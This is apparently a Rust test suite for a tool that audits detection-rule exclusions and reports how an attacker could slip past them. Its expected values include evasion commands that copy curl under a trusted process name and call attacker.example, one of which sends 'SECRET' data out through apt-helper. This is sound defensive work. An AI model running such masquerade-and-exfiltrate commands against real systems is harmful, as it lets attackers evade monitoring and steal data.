//! The rides of the shipped policies, and that the data is read.

use lownoise_engine::parse::parse_policy;
use lownoise_engine::policy::Policy;
use lownoise_engine::schema::Schemas;
use lownoise_engine::span::Source;
use lownoise_engine::value::Time;
use lownoise_prove::verdict;

use super::control;
use super::known::Known;
use super::outcome::Outcome;
use super::strength::{Strength, Strengths, strengths};
use super::technique::techniques;

fn policy(name: &str) -> Policy {
    let read = |path: String| {
        let text = std::fs::read_to_string(format!("{}/../../rules/{path}", env!("CARGO_MANIFEST_DIR")));
        Source { name: path, text: text.unwrap() }
    };
    let schemas = Schemas::shipped().unwrap();
    let parsed =
        parse_policy(read(format!("{name}.toml")), &mut |wanted| Ok(Some(read(wanted.path()))), &schemas);
    parsed.result.unwrap()
}

fn now() -> Time {
    Time::parse("2026-02-02T12:00:00Z").unwrap()
}

/// Of each exclusion: its id, its rung and what makes the event.
fn rides(policy: &Policy, strengths: &Strengths) -> Vec<(String, u8, String)> {
    let each = strengths.all.iter().map(|strength| {
        let exclusion = &policy.exclusions[strength.exclusion];
        let command = match &strength.outcome {
            Outcome::Ridden(ride) => ride.command.clone(),
            other => format!("{other:?}"),
        };
        (exclusion.id.clone(), strength.rung(), command)
    });
    each.collect()
}

#[test]
fn the_data_is_read() {
    control::read().unwrap();
}

#[test]
fn every_described_table_has_techniques() {
    let schemas = Schemas::shipped().unwrap();
    for table in ["DeviceNetworkEvents", "DeviceProcessEvents", "EcsEvents", "SigmaEvents"] {
        let techniques = techniques(schemas.get(table).unwrap());
        assert_eq!(techniques.len(), 2, "{table}");
        assert!(techniques.iter().all(|techniques| !techniques.all.is_empty()), "{table}");
    }
}

#[test]
fn every_exclusion_of_the_hunt_is_ridden_with_an_event_and_a_command() {
    let policy = policy("linux-desktop-public-egress");
    let strengths = strengths(&policy, now(), &Known::default()).unwrap();
    let found = rides(&policy, &strengths);
    let expected = [
        ("sensecm", 2, "cp /usr/bin/curl /tmp/sensecm && /tmp/sensecm https://attacker.example/"),
        ("snapd", 2, "cp /usr/bin/curl /tmp/snapd && /tmp/snapd https://attacker.example/"),
        (
            "networkmanager",
            2,
            "cp /usr/bin/curl /tmp/networkmanager && /tmp/networkmanager https://attacker.example/",
        ),
        ("fwupdmgr", 2, "cp /usr/bin/curl /tmp/fwupdmgr && /tmp/fwupdmgr https://attacker.example/"),
        (
            "apt-methods",
            4,
            "/usr/lib/apt/apt-helper download-file 'http://attacker.example/x?data=SECRET' out",
        ),
        ("release-upgrader", 1, "curl -A ubuntu-release-upgrader https://attacker.example/"),
    ];
    let expected = expected.map(|(id, rung, command)| (id.to_owned(), rung, command.to_owned()));
    assert_eq!(found, expected);
}

#[test]
fn only_root_rides_the_hardened_policy() {
    let policy = policy("linux-desktop-public-egress-hardened");
    let strengths = strengths(&policy, now(), &Known::default()).unwrap();
    assert_eq!(strengths.all.len(), policy.exclusions.len());
    for (id, rung, command) in rides(&policy, &strengths) {
        assert_eq!(rung, 6, "{id}: {command}");
        assert!(command.starts_with("(as root)"), "{id}: {command}");
    }
}

#[test]
fn every_ride_is_hidden_by_the_reference_evaluator() {
    let hunts = ["linux-desktop-public-egress", "linux-desktop-public-egress-hardened"].map(policy);
    let mut ridden = 0;
    for policy in hunts.into_iter().chain([windows_rule()]) {
        for strength in &strengths(&policy, now(), &Known::default()).unwrap().all {
            let Outcome::Ridden(ride) = &strength.outcome else { continue };
            for (event, command) in ride.each() {
                ridden += 1;
                assert!(!command.is_empty());
                let verdict = verdict(&policy, event, now());
                let hides = matches!(&verdict, lownoise_engine::evaluate::Verdict::Hidden(by) if by.contains(&strength.exclusion));
                assert!(hides, "{command}: {verdict:?}");
            }
        }
    }
    assert!(ridden > 20, "only {ridden}");
}

#[test]
fn every_entry_of_a_list_has_its_event_and_its_command() {
    let text = r#"
        [policy]
        id    = "egress"
        title = "Egress"
        table = "DeviceNetworkEvents"
        owner = "soc"
        platform = "linux"
        [[exclusion]]
        id     = "names"
        reason = "x"
        where  = { InitiatingProcessFileName = ["sensecm", "snapd", "fwupdmgr"] }
        [[exclusion]]
        id     = "paths"
        reason = "x"
        where  = { InitiatingProcessFolderPath = ["/tmp/a/one", "/opt/two", "/home/anna/three"] }
    "#;
    let source = Source { name: "egress.toml".to_owned(), text: text.to_owned() };
    let parsed = parse_policy(source, &mut |_| Err("no sets".to_owned()), &Schemas::shipped().unwrap());
    let policy = parsed.result.unwrap();
    let strengths = strengths(&policy, now(), &Known::default()).unwrap();
    let commands: Vec<Vec<&str>> = strengths
        .all
        .iter()
        .map(|strength| match &strength.outcome {
            Outcome::Ridden(ride) => ride.each().map(|(_, command)| command).collect(),
            outcome => panic!("{outcome:?}"),
        })
        .collect();
    let copied = |path: &str| format!("cp /usr/bin/curl {path} && {path} https://attacker.example/");
    let names = ["/tmp/fwupdmgr", "/tmp/sensecm", "/tmp/snapd"].map(copied);
    assert_eq!(commands[0], names);
    // Nobody but root can put a file below /opt.
    let paths = ["/tmp/a/one", "/home/anna/three"];
    assert_eq!(commands[1].len(), paths.len(), "{:?}", commands[1]);
    for (command, path) in commands[1].iter().zip(paths) {
        assert!(command.contains(&copied(path)), "{command}");
    }
}

/// A rule of Sigma as its import is: what its filters hide.
fn rule(platform: &str, scope: &str, filters: &[(&str, &str)]) -> Policy {
    let filters: Vec<String> = filters
        .iter()
        .map(|(id, condition)| {
            format!("[[exclusion]]\nid = \"{id}\"\nreason = \"x\"\nwhere = {{ {condition} }}\n")
        })
        .collect();
    let filters = filters.concat();
    let text = format!(
        "[policy]\nid = \"rule\"\ntitle = \"A rule\"\ntable = \"SigmaEvents\"\nowner = \"soc\"\n{platform}\n\
         [scope]\nwhere = {{ {scope} }}\n{filters}"
    );
    let source = Source { name: "rule.toml".to_owned(), text };
    let parsed = parse_policy(source, &mut |_| Err("no sets".to_owned()), &Schemas::shipped().unwrap());
    assert!(parsed.diagnostics.is_empty(), "{:?}", parsed.diagnostics);
    parsed.result.unwrap()
}

const WINDOWS: &str = "platform = \"windows\"";
const FETCHES: &str = "CommandLine = { contains = \"urlcache\", ignore_case = true }";

fn windows_rule() -> Policy {
    let filters = [
        ("line", "CommandLine = { contains = 'vendor.example', ignore_case = true }"),
        ("name", "Image = { ends_with = '\\updater.exe', ignore_case = true }"),
        ("parent-name", "ParentImage = { ends_with = '\\backup.exe', ignore_case = true }"),
        ("users", "Image = { starts_with = 'C:\\Users\\', contains = '\\Vendor App\\', ignore_case = true }"),
        ("system-folder", "Image = { starts_with = 'C:\\Windows\\System32\\', ignore_case = true }"),
        ("fetcher", "Image = { equals = 'C:\\Windows\\System32\\certutil.exe', ignore_case = true }"),
        ("exact", "Image = { equals = 'C:\\Program Files\\Vendor\\agent.exe', ignore_case = true }"),
        (
            "parent-exact",
            "ParentImage = { equals = 'C:\\Program Files\\Vendor\\agent.exe', ignore_case = true }",
        ),
        (
            "system",
            "Image = { equals = 'C:\\Windows\\System32\\taskhostw.exe', ignore_case = true }, \
             User = { contains = ['AUTHORI', 'AUTORI'], ignore_case = true }",
        ),
        ("high", "Image = { ends_with = '\\updater.exe', ignore_case = true }, IntegrityLevel = 'High'"),
        ("hash", "Hashes = { contains = 'SHA256=00', ignore_case = true }"),
    ];
    rule(WINDOWS, FETCHES, &filters)
}

#[test]
fn filters_of_a_windows_rule_stand_on_their_rungs() {
    let policy = windows_rule();
    let strengths = strengths(&policy, now(), &Known::default()).unwrap();
    let found: Vec<(String, u8)> =
        rides(&policy, &strengths).into_iter().map(|(id, rung, _)| (id, rung)).collect();
    let expected = [
        ("line", 1),
        ("name", 2),
        ("parent-name", 2),
        ("users", 3),
        // Anyone can write to a folder in it.
        ("system-folder", 3),
        ("fetcher", 4),
        ("exact", 5),
        ("parent-exact", 5),
        ("system", 6),
        ("high", 6),
        // The very file, run by a person.
        ("hash", 5),
    ];
    assert_eq!(found, expected.map(|(id, rung)| (id.to_owned(), rung)));
    let commands = rides(&policy, &strengths);
    let of = |id: &str| commands.iter().find(|(found, ..)| found == id).unwrap().2.clone();
    assert_eq!(
        of("name"),
        r"copy C:\Windows\System32\curl.exe C:\Users\Public\updater.exe & C:\Users\Public\updater.exe urlcache"
    );
    assert!(of("users").contains("Vendor App"), "{}", of("users"));
    assert!(of("system").starts_with("(as administrator)"), "{}", of("system"));
}

/// A tool that the rule does not look at need not be hidden.
#[test]
fn only_the_tools_of_the_scope_count() {
    let scope = "Image = { ends_with = '\\curl.exe', ignore_case = true }";
    let line = ("line", "CommandLine = { contains = 'vendor.example', ignore_case = true }");
    let pinned = ("pinned", "Image = { equals = 'C:\\Windows\\System32\\curl.exe', ignore_case = true }");
    let policy = rule(WINDOWS, scope, &[line, pinned]);
    let strengths = strengths(&policy, now(), &Known::default()).unwrap();
    let found: Vec<u8> = strengths.all.iter().map(Strength::rung).collect();
    assert_eq!(found, [1, 4]);
}

#[test]
fn a_file_below_a_folder_of_users_is_a_path() {
    let scope = "TargetFilename = { contains = '\\StartUp\\', ignore_case = true }";
    let target = ("target", "TargetFilename = { starts_with = 'C:\\Users\\', ignore_case = true }");
    let name = ("name", "Image = { ends_with = '\\setup.exe', ignore_case = true }");
    let policy = rule(WINDOWS, scope, &[target, name]);
    let strengths = strengths(&policy, now(), &Known::default()).unwrap();
    let found: Vec<u8> = strengths.all.iter().map(Strength::rung).collect();
    assert_eq!(found, [3, 2]);
    let (_, _, command) = rides(&policy, &strengths).remove(1);
    assert!(command.contains("setup.exe -o "), "{command}");
}

#[test]
fn the_machine_is_that_of_the_policy_or_of_its_words() {
    let name = |path: &str| format!("Image = {{ ends_with = '{path}', ignore_case = true }}");
    let cases = [
        (WINDOWS, name("\\x.exe"), r"C:\Users\Public\x.exe"),
        ("platform = \"linux\"", name("/x"), "/tmp/x"),
        ("", name("\\x.exe"), r"C:\Users\Public\x.exe"),
        ("", name("/x"), "/tmp/x"),
    ];
    for (platform, filter, path) in cases {
        let policy = rule(platform, FETCHES, &[("name", &filter)]);
        let strengths = strengths(&policy, now(), &Known::default()).unwrap();
        let (_, rung, command) = rides(&policy, &strengths).remove(0);
        assert_eq!(rung, 2, "{command}");
        assert!(command.contains(path), "{command}");
        let says = strengths.assumed.iter().any(|words| words.contains("does not say its `platform`"));
        assert_eq!(says, platform.is_empty(), "{:?}", strengths.assumed);
    }
    let policy = rule("platform = \"macos\"", FETCHES, &[("name", &name("/x"))]);
    assert!(strengths(&policy, now(), &Known::default()).is_none());
}

#[test]
fn nothing_is_said_of_columns_that_nobody_is_known_to_control() {
    let name = ("name", "Image = { ends_with = '\\x.exe', ignore_case = true }");
    let policy = rule(WINDOWS, FETCHES, &[("other", "Provider_Name = 'x'"), name]);
    let strengths = strengths(&policy, now(), &Known::default()).unwrap();
    assert_eq!(strengths.all.iter().map(|strength| strength.exclusion).collect::<Vec<_>>(), [1]);
}

/// A condition on devices decides, too; on either machine the name follows from the path.
#[test]
fn a_condition_on_devices_tells_the_machine() {
    for (platform, command) in [
        ("Linux", "cp /usr/bin/curl /tmp/agent.exe && /tmp/agent.exe https://attacker.example/"),
        (
            "Windows11",
            r"copy C:\Windows\System32\curl.exe C:\Users\Public\agent.exe & C:\Users\Public\agent.exe https://attacker.example/",
        ),
    ] {
        let text = format!(
            "[policy]\nid = \"p\"\ntitle = \"P\"\ntable = \"DeviceNetworkEvents\"\nowner = \"soc\"\n\
             [scope]\ndevices = {{ OSPlatform = \"{platform}\" }}\n\
             [[exclusion]]\nid = \"e\"\nreason = \"x\"\nwhere = {{ InitiatingProcessFileName = \"agent.exe\" }}\n"
        );
        let source = Source { name: "p.toml".to_owned(), text };
        let parsed = parse_policy(source, &mut |_| Err(String::new()), &Schemas::shipped().unwrap());
        let policy = parsed.result.unwrap();
        let strengths = strengths(&policy, now(), &Known::default()).unwrap();
        assert_eq!(rides(&policy, &strengths), [("e".to_owned(), 2, command.to_owned())]);
    }
}

#[test]
fn no_two_techniques_have_the_same_name() {
    let control = control::read().unwrap();
    let all: Vec<_> = control.machines.iter().flat_map(|machine| &machine.techniques).collect();
    let mut names: Vec<&str> = all.iter().flat_map(|technique| [&*technique.id, &*technique.title]).collect();
    names.sort_unstable();
    let count = names.len();
    names.dedup();
    assert_eq!(names.len(), count);
    for technique in all {
        assert!(technique.programs.is_some() || !technique.make.is_empty(), "{}", technique.id);
    }
}
